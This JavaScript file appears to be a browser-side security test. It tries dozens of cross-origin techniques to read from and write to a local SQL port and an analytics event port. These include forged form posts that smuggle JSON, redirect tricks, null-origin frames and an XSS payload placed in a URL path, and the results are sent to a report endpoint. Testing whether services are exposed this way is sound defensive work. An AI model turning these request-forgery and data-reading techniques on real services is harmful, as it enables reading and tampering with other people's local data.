// Tries to read and to write the ports by every request that a page can make. Reports what it could read or run; what got in shows on the ports themselves: every request
// names a session of its own on the SQL port, or sends an event that has the run's name.
const { run, sql, http, report, site } = settings;
const patience = 3000; // icons and the like never say that they are done; what takes longer goes on meanwhile
const got = [];
const tried = [];

// The words are put together by whoever runs this, so that an address repeated in an answer is not taken for the answer.
const query = name => `${sql}/?session_id=${run}-${name}&session_timeout=600&query=${encodeURIComponent(`SELECT concat('window.h','it="lea','ked"')`)}`;
const reads = { instance: `${http}/v1/instance`, export: `${http}/v1/export`, metrics: `${http}/metrics` };
const event = name => JSON.stringify({ event: run, anonymousId: name, timestamp: new Date().toISOString() });
const doors = name => [`${http}/v1/events?write_key=local`, `${http}/v1/history?write_key=local`, `${http}/v1/history/end?write_key=local&import=${run}-${name}`];
const redirect = (status, to) => `${site}/attacker/redirect?status=${status}&to=${encodeURIComponent(to)}`;
const secret = /leaked|processId|tidemark_collector|seed-visitor/;

function look(name, text) {
  if (secret.test(text))
    got.push(`${name}: ${text.slice(0, 60)}`);
}

function attempt(name, work) {
  tried.push(name);
  return Promise.race([
    Promise.resolve().then(work).catch(() => {}),
    new Promise(resolve => setTimeout(resolve, patience)),
  ]);
}

// An element that asks for an address; ends when it has loaded or failed.
function element(tag, attributes, parent = document.body) {
  return new Promise(resolve => {
    const made = document.createElement(tag);
    made.onload = made.onerror = made.onloadeddata = resolve;
    for (const [key, value] of Object.entries(attributes))
      made.setAttribute(key, value);
    parent.append(made);
  }).then(() => {});
}

// A frame, whatever fills it; looks into it afterwards.
function frame(name, fill, attributes = {}) {
  return new Promise(resolve => {
    const made = document.createElement('iframe');
    made.name = name;
    for (const [key, value] of Object.entries(attributes))
      made.setAttribute(key, value);
    document.body.append(made);
    made.onload = () => {
      let where = 'elsewhere';
      try {
        where = made.contentWindow.location.href;
        look(`frame ${name}`, made.contentDocument.documentElement.textContent);
      } catch { /* of another origin */ }
      if (where !== 'about:blank')
        resolve();
    };
    fill(made);
  });
}

function form(name, action, enctype, fields, method = 'POST') {
  return frame(name, made => {
    const sent = document.createElement('form');
    Object.assign(sent, { method, action, target: name });
    sent.enctype = enctype;
    for (const [key, value] of Object.entries(fields)) {
      const input = document.createElement('input');
      Object.assign(input, { name: key, value });
      sent.append(input);
    }
    document.body.append(sent);
    sent.submit();
  });
}

const get = (name, url, options) => fetch(url, options).then(async answer => look(`fetch ${name}`, await answer.text()));

function xhr(name, method, url, body, type) {
  return new Promise(resolve => {
    const asked = new XMLHttpRequest();
    asked.onloadend = () => {
      look(`xhr ${name}`, asked.responseText);
      resolve();
    };
    asked.open(method, url);
    if (type)
      asked.setRequestHeader('content-type', type);
    asked.send(body);
  });
}

function opened(made, name) {
  return new Promise(resolve => {
    made.onopen = () => { got.push(`${name} is open`); resolve(); };
    made.onmessage = message => { look(name, String(message.data)); };
    made.onerror = made.onclose = resolve;
  });
}

function style(name, text) {
  const made = document.createElement('style');
  made.textContent = text;
  document.head.append(made);
  const shown = document.createElement('p');
  shown.id = name;
  shown.textContent = 'x';
  document.body.append(shown);
  return document.fonts.load(`12px ${name}`).catch(() => {});
}

function window_(name, url) {
  return new Promise(resolve => {
    const made = window.open(url, name);
    const poll = setInterval(() => {
      let where = 'elsewhere';
      try {
        where = made.location.href;
        if (where !== 'about:blank')
          look(`window ${name}`, made.document.documentElement.textContent);
      } catch { /* of another origin */ }
      if (where === 'about:blank')
        return;
      clearInterval(poll);
      resolve();
    }, 50);
  });
}

// Every way to make a GET of an address.
function* gets(what, address) {
  const a = technique => [`${what}-${technique}`, address(`${what}-${technique}`)];
  const asElement = {
    img: url => ['img', { src: url }], script: url => ['script', { src: url }], module: url => ['script', { src: url, type: 'module' }],
    stylesheet: url => ['link', { rel: 'stylesheet', href: url }, document.head], preload: url => ['link', { rel: 'preload', as: 'fetch', href: url }, document.head],
    prefetch: url => ['link', { rel: 'prefetch', href: url }, document.head], modulepreload: url => ['link', { rel: 'modulepreload', href: url }, document.head],
    icon: url => ['link', { rel: 'icon', href: url }, document.head], object: url => ['object', { data: url, type: 'text/html' }], embed: url => ['embed', { src: url, type: 'text/html' }],
    video: url => ['video', { src: url, preload: 'auto' }], audio: url => ['audio', { src: url, preload: 'auto' }], input: url => ['input', { type: 'image', src: url }],
    imgcors: url => ['img', { src: url, crossorigin: 'anonymous' }], scriptcors: url => ['script', { src: url, crossorigin: 'anonymous' }],
    imgnoreferrer: url => ['img', { src: url, referrerpolicy: 'no-referrer' }], poster: url => ['video', { poster: url, src: 'data:,' }],
  };
  for (const [technique, made] of Object.entries(asElement)) {
    const [name, url] = a(technique);
    yield [name, () => element(...made(url))];
  }
  const more = {
    fetch: (name, url) => get(name, url), fetchnocors: (name, url) => get(name, url, { mode: 'no-cors' }), fetchsame: (name, url) => get(name, url, { mode: 'same-origin' }),
    fetchheader: (name, url) => get(name, url, { headers: { 'x-clickhouse-user': 'reader' } }), fetchcredentials: (name, url) => get(name, url, { credentials: 'include' }),
    fetchnoreferrer: (name, url) => get(name, url, { mode: 'no-cors', referrerPolicy: 'no-referrer' }), fetchkeepalive: (name, url) => get(name, url, { keepalive: true }),
    redirected: (name, url) => get(name, redirect(302, url)), redirectednocors: (name, url) => get(name, redirect(302, url), { mode: 'no-cors' }),
    imgredirected: (name, url) => element('img', { src: redirect(302, url) }), frameredirected: (name, url) => frame(name, made => { made.src = redirect(302, url); }),
    xhr: (name, url) => xhr(name, 'GET', url), eventsource: (name, url) => opened(new EventSource(url), name),
    websocket: (name, url) => opened(new WebSocket(url.replace('http', 'ws')), name),
    frame: (name, url) => frame(name, made => { made.src = url; }), sandboxed: (name, url) => frame(name, made => { made.src = url; }, { sandbox: 'allow-scripts allow-forms' }),
    framenoreferrer: (name, url) => frame(name, made => { made.src = url; }, { referrerpolicy: 'no-referrer' }),
    link: (name, url) => frame(name, () => { const made = document.createElement('a'); Object.assign(made, { href: url, target: name }); document.body.append(made); made.click(); }),
    formget: (name, url) => form(name, url.split('?')[0], 'application/x-www-form-urlencoded', Object.fromEntries(new URL(url).searchParams), 'GET'),
    window: (name, url) => window_(name, url), windownoopener: (name, url) => { window.open(url, '_blank', 'noopener,noreferrer'); },
    background: (name, url) => style(name, `#${name} { background: url("${url}"); }`), import: (name, url) => style(name, `@import "${url}";`),
    font: (name, url) => style(name, `@font-face { font-family: ${name}; src: url("${url}"); } #${name} { font-family: ${name}; }`),
    worker: (name, url) => new Promise(resolve => {
      const code = `try { importScripts(${JSON.stringify(url)}); postMessage(String(self.hit)); } catch (e) { postMessage('refused'); }`;
      const made = new Worker(URL.createObjectURL(new Blob([`self.window = self;${code}`], { type: 'text/javascript' })));
      made.onmessage = message => { look(name, message.data); resolve(); };
    }),
    workerfetch: (name, url) => new Promise(resolve => {
      const made = new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}).then(a => a.text()).catch(() => 'refused').then(postMessage);`], { type: 'text/javascript' })));
      made.onmessage = message => { look(name, message.data); resolve(); };
    }),
    serviceworker: (name, url) => navigator.serviceWorker?.register(url).then(() => got.push(name)),
    nullorigin: (name, url) => frame(name, made => { made.srcdoc = `<script>fetch(${JSON.stringify(url)}).then(a => a.text()).catch(() => '').then(t => parent.postMessage(t, '*'))</scr` + 'ipt>'; }, { sandbox: 'allow-scripts' }),
    refresh: (name, url) => frame(name, made => { made.srcdoc = `<meta http-equiv=refresh content="0;url=${url.replace(/"/g, '&quot;')}">`; }),
  };
  for (const [technique, work] of Object.entries(more)) {
    const [name, url] = a(technique);
    yield [name, () => work(name, url)];
  }
}

// Every way to make a POST that asks nobody first, and those that ask.
const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', 'application/json', 'text/csv', ''];

function* posts(what, address, body) {
  for (const type of types) {
    const short = type.replace(/\W/g, '') || 'none';
    const options = name => ({ method: 'POST', body: new Blob([body(name)], { type }) });
    yield [`${what}-post-${short}`, name => get(name, address(name), options(name))];
    yield [`${what}-nocors-${short}`, name => get(name, address(name), { ...options(name), mode: 'no-cors' })];
    yield [`${what}-beacon-${short}`, name => { navigator.sendBeacon(address(name), new Blob([body(name)], { type })); }];
    yield [`${what}-postxhr-${short}`, name => xhr(name, 'POST', address(name), body(name), type)];
  }
  yield [`${what}-beacon-text`, name => { navigator.sendBeacon(address(name), body(name)); }];
  yield [`${what}-redirect307`, name => get(name, redirect(307, address(name)), { method: 'POST', body: body(name), mode: 'no-cors' })];
  yield [`${what}-noreferrer`, name => get(name, address(name), { method: 'POST', body: body(name), mode: 'no-cors', referrerPolicy: 'no-referrer' })];
  yield [`${what}-put`, name => get(name, address(name), { method: 'PUT', body: body(name) })];
  yield [`${what}-ping`, name => { const made = document.createElement('a'); made.href = '#'; made.ping = address(name); document.body.append(made); made.click(); }];
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    const short = enctype.replace(/\W/g, '');
    // As text/plain a field is sent as name=value: the equals sign goes into a text of the JSON.
    yield [`${what}-form-${short}`, name => form(name, address(name), enctype, { [body(name).replace(/}$/, ',"x":"')]: '"}' })];
    yield [`${what}-nullform-${short}`, name => frame(name, made => {
      made.srcdoc = `<form method=POST enctype="${enctype}" action="${address(name)}"><input name='${body(name).replace(/}$/, ',"x":"')}' value='"}'></form><script>document.forms[0].submit()</scr` + 'ipt>';
    }, { sandbox: 'allow-scripts allow-forms' })];
  }
}

window.onmessage = message => {
  if (message.data === 'run')
    got.push('a script ran on the port');
  else
    look('message', String(message.data));
};

async function all() {
  const waiting = [];
  const start = (name, technique) => waiting.push([name, technique]);
  for (const [name, technique] of gets('sql', query))
    start(name, technique);
  for (const [what, url] of Object.entries(reads))
    for (const [name, technique] of gets(what, () => url))
      start(name, technique);
  // A frame of a path that nobody serves: what stands in it must not run there.
  for (const port of [sql, http])
    start('script in a path', name => frame(`${name} ${port}`, made => { made.src = `${port}/<script>parent.postMessage('run','*')</script><img src=x onerror="parent.postMessage('run','*')">`; }));
  for (const [name, technique] of posts('sqlpost', query, () => ''))
    start(name, technique);
  for (let door = 0; door < 3; door++)
    for (const [name, technique] of posts(`door${door}`, name => doors(name)[door], event))
      start(name, technique);
  // A browser has six connections for a port, and some of these keep theirs: not all at once.
  while (waiting.length > 0)
    await Promise.all(waiting.splice(0, 12).map(([name, technique]) => attempt(name, () => technique(name))));
  if (window.hit)
    got.push(`a script set ${window.hit}`);
  await fetch(report, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ got, tried }) });
}

all();
